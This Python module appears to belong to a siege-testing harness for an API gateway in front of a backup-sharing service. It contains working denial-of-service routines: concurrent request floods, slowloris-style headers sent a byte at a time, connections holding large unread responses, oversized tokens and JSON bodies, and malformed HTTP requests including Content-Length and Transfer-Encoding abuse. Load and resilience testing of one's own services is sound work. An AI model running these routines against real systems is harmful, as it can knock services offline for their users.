"""HTTP/1.1 by hand, to the gateway."""

from __future__ import annotations

import asyncio
import itertools
import secrets
from collections.abc import AsyncIterator, Callable, Mapping, Sequence
from contextlib import asynccontextmanager

from bench.siege.attacks.http2 import hold
from bench.siege.cast import ATTACKER, MEMBER_TOKEN, READER_TOKEN, SECRET, Budget, Target

_PATH = f"/v2/{ATTACKER}/os-vendor-backup-sharing"
_LONGEST_TOKEN = 8181
"""Bytes: behind ``X-Subject-Token: `` more than Apache takes of a header, and less than the gateway takes of one."""

_Connection = tuple[asyncio.StreamReader, asyncio.StreamWriter]


async def lists_by_name(target: Target, budget: Budget) -> None:
    """A project with many sharings sorts them by name, three hundred times at once."""
    await _flood(target, budget, lambda _: _get("detail?limit=1&sort_key=name"), callers=300)


async def large_lists(target: Target, budget: Budget) -> None:
    """Six readers of the largest pages."""
    await _flood(target, budget, lambda _: _get("detail?limit=1000"), callers=6)


async def unread_lists(target: Target, budget: Budget) -> None:
    """Thirty that ask for the largest pages and do not read them."""
    held: list[asyncio.StreamWriter] = []
    for _ in range(30):
        reader, writer = await _open(target)
        writer.transport.pause_reading()  # type: ignore[attr-defined]  # a socket's has it
        await _send(writer, _get("detail?limit=1000"), budget)
        held.append(writer)
        del reader
    await hold(budget)
    for writer in held:
        writer.close()


async def bad_tokens(target: Target, budget: Budget) -> None:
    """Made-up tokens from the address that everybody has."""
    await _flood(target, budget, lambda _: _get("count", f"bad-{secrets.token_hex(8)}"), callers=4)


async def long_tokens(target: Target, budget: Budget) -> None:
    """Tokens that are longer than the identity service takes, each a new one."""
    await _flood(target, budget, lambda _: _get("count", secrets.token_hex(8).ljust(_LONGEST_TOKEN, "x")), callers=16)


async def members(target: Target, budget: Budget) -> None:
    """Bodies of a megabyte that are hundreds of thousands of empty objects."""
    body = b'{"shared":{"to_project_ids":[' + b"{}," * budget.scaled(340_000) + b'{}],"backup_id":"x"}}'
    body = body[: 2**20 - 16] if len(body) > 2**20 else body
    head = {"Content-Type": "application/json", "Content-Length": str(len(body))}
    await _flood(target, budget, lambda _: _head("POST", "", head, "") + body, callers=4)


async def malformed(target: Target, budget: Budget) -> None:
    """Requests that are none, with tokens in them."""
    token = f"{SECRET}-{secrets.token_hex(16)}"
    start = f"GET {_PATH}/count HTTP/1.1\r\nHost: x\r\n"
    requests = [
        f"{start}X-Auth-Token: {token}\x01\r\n\r\n",
        f"{start}X-Auth-Token : {token}\r\n\r\n",
        f"{start}X-Auth-Token: {token}{'x' * 20_000}\r\n\r\n",
        f"{start}X-Auth-Token: {token}\n\n",
        f"{start}X-Auth-Token {token}\r\n\r\n",
        f"{start}Content-Length: {token}\r\n\r\n",
        f"{start}Transfer-Encoding: {token}\r\n\r\n",
        f"GET /{token} HTTP/1.1\r\nX-Auth-Token: {token}\x00\r\n\r\n",
        f"{token} / HTTP/9.9\r\nX-Auth-Token: {token}\r\n\r\n",
        f"GET / HTTP/1.1\r\nX-Auth-Token: {token}\r\n {token}\r\n\r\n",
    ]
    for request in itertools.cycle(requests):
        if budget.is_over:
            return
        await _ask(target, budget, request.encode("latin-1"))


async def slow_headers(target: Target, budget: Budget) -> None:
    """Two hundred requests whose headers come a byte at a time."""

    async def one() -> None:
        while not budget.is_over:
            try:
                _, writer = await _open(target)
                await _send(writer, f"GET {_PATH}/count HTTP/1.1\r\nX-".encode(), budget)
                while not budget.is_over:
                    await asyncio.sleep(0.5)
                    await _send(writer, b"a", budget)
            except OSError:
                budget.tally["hung up"] += 1

    async with asyncio.TaskGroup() as group:
        for _ in range(200):
            group.create_task(one())


def _get(what: str, token: str | None = None) -> bytes:
    given = token or (READER_TOKEN if what.startswith("detail") else MEMBER_TOKEN)
    return _head("GET", f"/{what}", {}, given)


def _head(method: str, rest: str, headers: Mapping[str, str], token: str) -> bytes:
    named = {"Host": "siege", **({"X-Auth-Token": token} if token else {}), **headers}
    lines: Sequence[str] = [f"{method} {_PATH}{rest} HTTP/1.1", *(f"{k}: {v}" for k, v in named.items()), "", ""]
    return "\r\n".join(lines).encode("ascii")


async def _open(target: Target) -> _Connection:
    host, _, port = target.rest.rpartition(":")
    return await asyncio.open_connection(host, int(port))


async def _send(writer: asyncio.StreamWriter, data: bytes, budget: Budget) -> None:
    writer.write(data)
    budget.sent += len(data)
    await writer.drain()


@asynccontextmanager
async def _connected(target: Target) -> AsyncIterator[_Connection]:
    reader, writer = await _open(target)
    try:
        yield reader, writer
    finally:
        writer.close()


async def _ask(target: Target, budget: Budget, request: bytes) -> None:
    """One request on a connection of its own."""
    try:
        async with _connected(target) as (reader, writer), asyncio.timeout(5):
            await _send(writer, request, budget)
            budget.tally[await _status(reader)] += 1
    except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError, TimeoutError, ValueError):
        budget.tally["hung up"] += 1


async def _status(reader: asyncio.StreamReader) -> str:
    """Read a response; answers its status."""
    head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1").lower()
    _, _, length = head.partition("content-length: ")
    left = int(length.partition("\r\n")[0] or 0)
    while left > 0 and (data := await reader.read(min(left, 2**20))):
        left -= len(data)
    return f"HTTP {head.split()[1]}"


async def _flood(target: Target, budget: Budget, request: Callable[[int], bytes], callers: int) -> None:
    """Send requests over connections that are kept, so many at once, until the budget is used up."""
    numbers = itertools.count()

    async def caller() -> None:
        while not budget.is_over:
            try:
                async with _connected(target) as (reader, writer):
                    while not budget.is_over:
                        await _send(writer, request(next(numbers)), budget)
                        budget.tally[await _status(reader)] += 1
            except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
                budget.tally["hung up"] += 1

    async with asyncio.TaskGroup() as group:
        for _ in range(callers):
            group.create_task(caller())
